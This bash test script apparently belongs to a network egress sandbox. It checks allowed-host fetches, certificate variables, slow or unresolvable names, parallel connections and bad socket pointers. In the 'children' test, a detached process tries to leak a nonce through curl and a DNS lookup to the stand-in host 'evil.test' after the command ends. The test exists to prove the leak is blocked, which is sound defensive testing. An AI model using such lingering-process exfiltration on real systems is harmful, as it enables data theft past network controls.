#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-3.0-or-later
# shellcheck disable=SC1091,SC2016,SC2034,SC2329
# What other gates break (RESEARCH §6) works through this one: own certificate files, slow servers, names that do not resolve, bad
# pointers, children that outlive the command, names in mixed case, many connections at once.
. "$(dirname "$0")/lib.sh"
bed

run() { h c env SUDO_UID=65534 SUDO_GID=65534 "$SLUICE" run --allow allowed.test --allow slow.test --allow mirror.test "$@"; }
chmod 644 "$CA"
get() { run -- curl -sS --max-time 60 --cacert "$CA" "$@"; }

own_cafile() { get https://allowed.test/hello | grep 'hello from allowed.test'; }
bundle_variable() { CURL_CA_BUNDLE=$CA run -- curl -sS --max-time 60 https://allowed.test/hello | grep 'hello from allowed.test'; }
library_variable() {
    SSL_CERT_FILE=$CA run -- "$PYTHON" -c 'import urllib.request as u; print(u.urlopen("https://allowed.test/hello", timeout=60).read())' | grep 'hello from allowed.test'
}
no_ca_of_ours() { run -- openssl s_client -CAfile "$CA" -verify_return_error -brief -connect allowed.test:443 -servername allowed.test < /dev/null 2>&1 | grep 'Verification: OK'; }
unresolvable() { run --allow nowhere.test --allow tcp://nowhere.nosuchzone.test:22 -- curl -sS --max-time 60 --cacert "$CA" https://allowed.test/hello | grep hello; }
mixed_case() { get https://ALLowed.Test/hello -o - | grep -i 'hello from allowed.test' && run -- getent ahosts aLLOWED.tESt | grep 198.18.2.80; }
bad_pointers() {
    run -- "$PYTHON" -c '
import ctypes, socket, urllib.request, ssl, sys
libc = ctypes.CDLL(None, use_errno=True)
s, d = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for pointer in 0, 1, 0xdeadbeef000, -4096:
    p = ctypes.c_void_p(pointer)
    for size in 0, 16, 128, 1 << 30:
        libc.connect(s.fileno(), p, size); libc.sendto(d.fileno(), p, 16, 0, p, size); libc.sendmsg(d.fileno(), p, 0); libc.sendmmsg(d.fileno(), p, 3, 0)
print(urllib.request.urlopen("https://allowed.test/hello", timeout=60, context=ssl.create_default_context(cafile=sys.argv[1])).read())' "$CA" | grep 'hello from'
}
# A fetch that does not end and a name that takes 1.5 s to resolve, each time, hold up nobody else: behind these names ten fetches took 15 s.
slow_fetches() {
    run -- sh -c 'curl -sS -o "$2" --limit-rate 100k --cacert "$1" https://allowed.test/slow & slow=$!
        while :; do getent ahosts slow.test; done > /dev/null & name=$!
        until [ -s "$2" ]; do kill -0 $slow && sleep 0.05 || exit 1; done
        for i in 1 2 3 4 5 6 7 8 9 10; do curl -sS --max-time 60 --cacert "$1" https://allowed.test/hello || exit 1; done
        kill $name && kill $slow && echo both went on' sh "$CA" "$T/open/slow" > "$T/out"
}
slow_server() {
    quick 6000 slow_fetches
    [ "$(grep -c hello "$T/out")" = 10 ]
    grep 'both went on' "$T/out"
}
many_at_once() {
    get -Z --parallel-max 100 --parallel-immediate 'https://allowed.test/hello?[1-200]' > "$T/out" 2>&1
    [ "$(grep -c 'hello from allowed.test' "$T/out")" = 200 ]
}
# The command ends; what it left behind ends too, and says nothing more.
children() {
    local n
    n=$(nonce)
    quick 5000 run -- sh -c 'setsid sh -c "sleep 3; curl -s --max-time 2 http://198.18.3.66/$1; dig +tries=1 $1.evil.test" > /dev/null 2>&1 & echo started' sh "$n" | grep started
    sleep 3.5
    expect_not_arrived "$n"
    fails pgrep --ns "${HOST[c]}" --nslist net -f "$n"
}
children_alive() { # while the command lives, its children fetch as it does, also without a parent
    run -- sh -c '(setsid sh -c "curl -sS --max-time 60 --cacert $1 https://allowed.test/hello > $2; : > $2.done" &); until [ -e "$2.done" ]; do sleep 0.05; done' sh "$CA" "$1"
    grep 'hello from' "$1"
}

mkdir -m 1777 "$T/open"
check "a program with a certificate file of its own" own_cafile
check "CURL_CA_BUNDLE" bundle_variable
check "SSL_CERT_FILE" library_variable
check "the server's own certificate is what the client sees" no_ca_of_ours
check "one allowed name that does not resolve" unresolvable
check "names in mixed case" mixed_case
check "bad pointers" bad_pointers
check "a slow server and a slow name hold up nobody" slow_server
check "200 requests, 100 connections at once" many_at_once
check "children that outlive the command end with it" children
check "children of children, while the command lives" children_alive "$T/open/out"
finish
